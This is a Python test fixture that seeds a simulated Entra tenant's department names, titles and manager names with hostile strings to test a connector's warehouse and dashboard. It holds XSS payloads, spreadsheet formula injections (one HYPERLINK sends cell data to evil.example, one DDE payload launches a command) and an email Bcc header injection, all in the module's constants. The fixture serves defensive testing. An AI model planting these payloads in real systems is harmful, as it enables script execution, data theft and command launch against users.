"""A simulated tenant whose Entra text fields are hostile: HTML/JS, markdown, CSV formula prefixes, CR/LF,
very long strings and non-Latin scripts, as anyone in the tenant could set them. Shared by the fault suite
(warehouse, alerts) and the dashboard tests."""

from __future__ import annotations

from pathlib import Path

import pytest
from simulated_warehouse import DAYS, END, FIRST, build_warehouse

from connector.simulator import directory
from connector.simulator.tenant import DEPARTMENTS, Tenant

# department (by its simulated trajectory) -> the hostile name it gets
HOSTILE_DEPARTMENTS = {
    "Marketing": "<script>alert('dept')</script>Marketing",  # stagnates: gets alerts
    "Legal": '=HYPERLINK("https://evil.example/?x="&A1,"Legal")',  # stagnates
    "Procurement": "Procurement\r\nBcc: victim@evil.example",  # stagnates: header injection attempt
    "Human Resources": "<img src=x onerror=alert('hr')>",  # declines
    "Operations": "+SUM(1;2) **Operations** [click](javascript:alert(1))",  # declines
    "Finance": "@Finance|cmd",
    "Sales": "営業部 — المبيعات — Отдел продаж",
    "Engineering": "-Engineering " + "E" * 2000,
    "Research & Development": "\tR&D <b>bold</b> &amp; co",
}
HOSTILE_TITLE = "<svg onload=alert('title')>Analyst"
HOSTILE_DISPLAY = "=cmd|' /C calc'!A0 <script>alert('mgr')</script>"


def departments() -> list[tuple[str, str]]:
    return [(HOSTILE_DEPARTMENTS.get(d, d), kind) for d, kind in DEPARTMENTS]


def build_hostile_warehouse(tmp: Path, users: int = 900):
    """Five weeks of daily collections of a hostile tenant, transformed: (cfg, simulator, tenant)."""
    tenant = Tenant.generate(users=users, days=DAYS, seed=5, end=END)
    for i in range(0, users, 7):  # every 7th user's title, and every manager's display name
        if tenant.title[i]:
            tenant.title[i] = HOSTILE_TITLE
    for m in {int(x) for x in tenant.manager if x >= 0}:
        tenant.display[m] = f"{HOSTILE_DISPLAY} {m}"
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(directory, "DEPARTMENTS", departments())
        cfg, sim, _ = build_warehouse(tmp, range(FIRST, DAYS), tenant=tenant)
    return cfg, sim, tenant
